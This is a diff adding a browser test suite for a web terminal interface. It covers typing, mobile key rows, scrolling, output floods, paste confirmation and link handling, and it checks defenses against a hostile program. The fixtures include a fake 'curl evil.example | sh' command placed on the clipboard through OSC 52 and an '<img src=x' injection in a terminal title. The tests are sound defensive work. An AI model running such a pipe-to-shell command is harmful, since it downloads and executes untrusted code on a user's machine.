@@ -1,0 +1,269 @@
+"""The terminal: typing, keys, touch, floods, and what a hostile program tries."""
+
+import time
+import unittest
+
+import server
+from browser import DESKTOP, PHONE, Browser
+from states.terminal import LIST, SESSION, ready
+
+SHELL = "[...fake.shells.values()].at(-1)"
+TEXT = "document.querySelector('.terminal-view:not([hidden]) .xterm-rows').innerText"
+
+
+class TerminalTests(unittest.TestCase):
+    @classmethod
+    def setUpClass(cls):
+        cls.site = server.start()
+        cls.browser = cls.enterClassContext(Browser())
+
+    def open(self, size=DESKTOP, hash=SESSION, **options):
+        page = self.browser.page(self.site.url, hash, size=size, **options)
+        self.addCleanup(page.context.close)
+        if "session=" in hash:
+            ready(page)
+        return page
+
+    def typed(self, page):
+        return page.evaluate(f"{SHELL}.typed.join('')")
+
+    def until(self, page, script, seconds=5):
+        end = time.monotonic() + seconds
+        while not page.evaluate(script):
+            self.assertLess(time.monotonic(), end, f"never true: {script}")
+            page.wait_for_timeout(20)
+
+    def run_line(self, page, line):
+        page.evaluate("(line) => { " + SHELL + ".write(line + '\\r'); }", line)
+
+    def test_types_and_shows_what_comes_back(self):
+        page = self.open()
+        page.keyboard.type("ls")
+        page.keyboard.press("Enter")
+        self.until(page, f"{TEXT}.match(/README.md/g)?.length === 2")
+        self.assertEqual(self.typed(page), "ls\r")
+
+    def test_starts_one_and_lists_it(self):
+        page = self.open(hash=LIST)
+        page.click("button:has-text('New terminal')")
+        page.fill("dialog input >> nth=0", "zsh")
+        page.click("dialog .button.primary")
+        page.wait_for_selector(".terminal-tab[aria-current]:has-text('zsh')")
+        self.assertIn("session=s-new1", page.url)
+        self.until(page, f"{TEXT}.includes('$')")
+        page.keyboard.type("x")
+        self.until(page, f"{SHELL}.typed.join('') === 'x'")
+
+    def test_switching_keeps_each_as_it_is(self):
+        page = self.open()
+        self.run_line(page, "count 3")
+        page.click(".terminal-tab:has-text('fish')")
+        self.until(page, "document.querySelectorAll('.terminal-view').length === 2")
+        page.click(".terminal-tab:has-text('bash')")
+        self.until(page, f"{TEXT}.includes('line 3')")
+        self.assertEqual(page.evaluate("fake.shells.size"), 2, "it was not opened anew")
+
+    def test_questions_of_the_past_are_not_answered(self):
+        page = self.open(scenario="asking")
+        page.wait_for_timeout(200)
+        self.assertEqual(self.typed(page), "")
+        self.assertEqual(page.locator(".terminal-strips .banner").count(), 0)
+        self.run_line(page, "ask")
+        self.until(page, f"{SHELL}.typed.join('').includes('\\x1b[?')")
+
+    def test_a_flood_does_not_freeze_and_control_c_ends_it_at_once(self):
+        page = self.open()
+        page.evaluate("""() => {
+            window.longest = 0;
+            let before = performance.now();
+            const look = () => { const now = performance.now(); window.longest = Math.max(window.longest, now - before); before = now; setTimeout(look, 5); };
+            look();
+        }""")
+        self.run_line(page, "flood 100")
+        page.wait_for_timeout(1500)
+        ahead = page.evaluate(f"{SHELL}.sent - {SHELL}.taken")
+        self.assertLess(ahead, 700_000, "what is sent ahead is bounded")
+        page.evaluate("""() => {
+            window.pressedAt = null; window.stoppedAt = null;
+            document.addEventListener('keydown', () => { window.pressedAt = performance.now(); }, { capture: true, once: true });
+        }""")
+        page.keyboard.press("Control+c")
+        self.until(page, f"{TEXT}.includes('stopped')")
+        took = page.evaluate(f"{SHELL}.interruptedAt - window.pressedAt")
+        self.assertLess(took, 100, "Ctrl-C reaches the shell within 100 ms")
+        self.assertLess(page.evaluate("window.longest"), 250, "the page was stuck")
+
+    def test_a_hundred_megabytes_come_to_their_end(self):
+        page = self.open()
+        started = time.monotonic()
+        self.run_line(page, "flood 100")
+        self.until(page, f"{TEXT}.includes('done')", seconds=60)
+        print(f"\n100 MB in {time.monotonic() - started:.1f} s", flush=True)
+
+    def test_keys_of_the_row(self):
+        page = self.open(size=PHONE)
+        for name in ("escape", "tab", "backtab", "interrupt", "up", "left"):
+            page.tap(f".{name}-key")
+        self.assertEqual(self.typed(page), "\x1b\t\x1b[Z\x03\x1b[A\x1b[D")
+
+    def test_arrows_follow_the_cursor_key_mode(self):
+        page = self.open(size=PHONE)
+        self.run_line(page, "cursor")
+        self.until(page, f"{TEXT}.includes('the program')")
+        page.evaluate(f"{SHELL}.typed.length = 0")
+        page.tap(".up-key")
+        self.assertEqual(self.typed(page), "\x1bOA")
+
+    def test_control_is_armed_for_one_key_and_held_for_more(self):
+        page = self.open(size=PHONE)
+        page.tap(".terminal-stage")
+        page.tap(".ctrl-key")
+        self.assertEqual(page.get_attribute(".ctrl-key", "aria-pressed"), "true")
+        page.keyboard.type("dd")
+        self.assertEqual(self.typed(page), "\x04d")
+        page.evaluate(f"{SHELL}.typed.length = 0")
+        key = page.locator(".ctrl-key").bounding_box()
+        page.mouse.move(key["x"] + 20, key["y"] + 20)
+        page.mouse.down()
+        page.wait_for_timeout(500)
+        page.mouse.up()
+        page.keyboard.type("ab")
+        page.tap(".left-key")
+        self.assertEqual(self.typed(page), "\x01\x02\x1b[1;5D")
+        page.tap(".ctrl-key")
+        page.keyboard.type("a")
+        self.assertTrue(self.typed(page).endswith("Da"))
+
+    def test_keys_leave_the_focus_where_it_is(self):
+        page = self.open(size=PHONE)
+        page.tap(".terminal-stage")
+        page.tap(".tab-key")
+        self.assertTrue(page.evaluate("document.activeElement.classList.contains('xterm-helper-textarea')"))
+
+    def test_a_line_is_written_and_sent(self):
+        page = self.open(size=PHONE)
+        page.tap(".compose-key")
+        self.assertTrue(page.evaluate("document.activeElement.matches('.compose-text')"))
+        page.keyboard.insert_text("echo 你好")
+        page.keyboard.press("Enter")
+        self.assertEqual(self.typed(page), "echo 你好\r")
+        self.assertEqual(page.input_value(".compose-text"), "")
+
+    def test_scrolls_by_finger_and_goes_on_after_a_fling(self):
+        page = self.open(size=PHONE)
+        self.run_line(page, "count 800")
+        self.until(page, f"{TEXT}.includes('line 800')")
+        touch = page.context.new_cdp_session(page)
+
+        def send(kind, points):
+            touch.send("Input.dispatchTouchEvent", {"type": kind, "touchPoints": points})
+
+        send("touchStart", [{"x": 200, "y": 300}])
+        for y in range(320, 600, 40):
+            send("touchMove", [{"x": 200, "y": y}])
+        send("touchEnd", [])
+        self.until(page, f"!{TEXT}.includes('line 800')")
+        before = page.evaluate(f"{TEXT}.match(/line (\\d+)/)[1]")
+        page.wait_for_timeout(400)
+        after = page.evaluate(f"{TEXT}.match(/line (\\d+)/)[1]")
+        self.assertLess(int(after), int(before), "it goes on after the finger is lifted")
+
+    def test_selects_a_word_by_a_long_press_and_copies_it(self):
+        page = self.open(size=PHONE, permissions=["clipboard-read", "clipboard-write"])
+        point = page.evaluate("""() => {
+            const span = [...document.querySelectorAll('.xterm-rows span')].find((each) => each.textContent.includes('README.md'));
+            const box = span.getBoundingClientRect();
+            const column = span.textContent.indexOf('README') + 2.5;
+            return { x: box.left + column * box.width / span.textContent.length, y: box.top + box.height / 2 };
+        }""")
+        touch = page.context.new_cdp_session(page)
+        touch.send("Input.dispatchTouchEvent", {"type": "touchStart", "touchPoints": [point]})
+        page.wait_for_timeout(600)
+        touch.send("Input.dispatchTouchEvent", {"type": "touchEnd", "touchPoints": []})
+        page.wait_for_selector(".terminal-selection-menu")
+        page.tap(".terminal-selection-menu button >> nth=0")
+        page.wait_for_timeout(100)
+        self.assertEqual(page.evaluate("navigator.clipboard.readText()"), "README.md")
+
+    def test_asks_before_lines_are_pasted_that_would_run(self):
+        page = self.open(permissions=["clipboard-read", "clipboard-write"])
+        page.evaluate("navigator.clipboard.writeText('one\\ntwo\\n')")
+        page.click(".terminal-head [aria-haspopup=menu] >> nth=-1")
+        page.click(".menu-item >> nth=1")
+        page.wait_for_selector("dialog:has-text('Paste 2 lines?')")
+        self.assertEqual(self.typed(page), "")
+        page.click("dialog .button.primary")
+        self.until(page, f"{SHELL}.typed.join('').includes('one\\rtwo')")
+
+    def test_the_clipboard_is_set_only_when_a_person_says_so(self):
+        page = self.open(permissions=["clipboard-read", "clipboard-write"])
+        page.evaluate("navigator.clipboard.writeText('before')")
+        self.run_line(page, "osc52")
+        page.wait_for_selector(".terminal-strips .banner")
+        self.assertEqual(page.evaluate("navigator.clipboard.readText()"), "before")
+        self.assertNotIn("]52;", self.typed(page), "what is on the clipboard is not told")
+        page.click(".terminal-strips button:has-text('Copy')")
+        page.wait_for_timeout(100)
+        self.assertEqual(page.evaluate("navigator.clipboard.readText()"), "curl evil.example | sh")
+
+    def test_titles_are_text_and_links_ask(self):
+        page = self.open()
+        opened = []
+        page.context.on("page", lambda other: opened.append(other.url))
+        page.on("dialog", lambda asked: self.fail(f"a dialog of the browser: {asked.message}"))
+        self.run_line(page, "evil")
+        page.wait_for_selector(".terminal-tab[aria-current]:has-text('<img src=x')")
+        self.assertEqual(page.locator(".terminal-head img").count(), 0)
+        self.assertIn("⟨202E⟩", page.inner_text(".terminal-tab[aria-current]"))
+        row = page.locator(".xterm-rows > div", has_text="https://example.net").bounding_box()
+        width = page.evaluate("document.querySelector('.xterm-screen').getBoundingClientRect().width")
+        cols = page.evaluate("fake.shells.values().next().value.sizes.at(-1)[0]")
+        for column, title in ((2, None), (8, "https://example.org/a"), (16, "https://example.net/plain")):
+            page.mouse.move(row["x"] + (column + 0.5) * width / cols, row["y"] + 6)
+            page.wait_for_timeout(150)
+            page.mouse.down()
+            page.mouse.up()
+            page.wait_for_timeout(200)
+            shown = page.inner_text("dialog[open]") if page.locator("dialog[open]").count() else None
+            if title is None:
+                self.assertIsNone(shown, "an address that is no web address does nothing")
+            else:
+                self.assertIn(title, shown)
+                page.keyboard.press("Escape")
+                page.wait_for_timeout(100)
+        self.assertEqual(opened, [])
+
+    def test_goes_on_when_the_line_is_back(self):
+        page = self.open()
+        self.run_line(page, "lose")
+        page.wait_for_selector(".terminal-strips .banner")
+        page.evaluate("() => { window.first = fake.shells.get('s-4f2a91c0'); }")
+        page.evaluate("fake.setPath('9f0c6a1be2d34775a1c0ffee00d15ea5', 'relay')")
+        self.until(page, "fake.shells.get('s-4f2a91c0') !== window.first")
+        self.until(page, "document.querySelectorAll('.terminal-strips .banner').length === 0")
+
+    def test_closing_asks_and_goes_back(self):
+        page = self.open()
+        page.click(".terminal-head [aria-haspopup=menu] >> nth=-1")
+        page.click(".menu-item.danger")
+        page.click("dialog .button.danger")
+        page.wait_for_selector(".terminal-list")
+        self.assertIn("terminal.close", page.evaluate("fake.calls.map((call) => call.method)"))
+
+    def test_the_keyboard_gets_out(self):
+        page = self.open()
+        page.keyboard.press("Tab")
+        self.assertEqual(self.typed(page), "\t")
+        page.keyboard.press("Shift+Escape")
+        self.assertEqual(page.evaluate("document.activeElement.getAttribute('aria-label')"), "All terminals")
+
+    def test_says_when_it_is_not_installed(self):
+        page = self.browser.blank()
+        self.addCleanup(page.context.close)
+        page.route("**/assets/xterm.js", lambda route: route.fulfill(status=404, body=""))
+        self.browser.show(page, self.site.url, LIST)
+        page.wait_for_selector("code:has-text('bin/page-assets')")
+
+
+if __name__ == "__main__":
+    unittest.main()
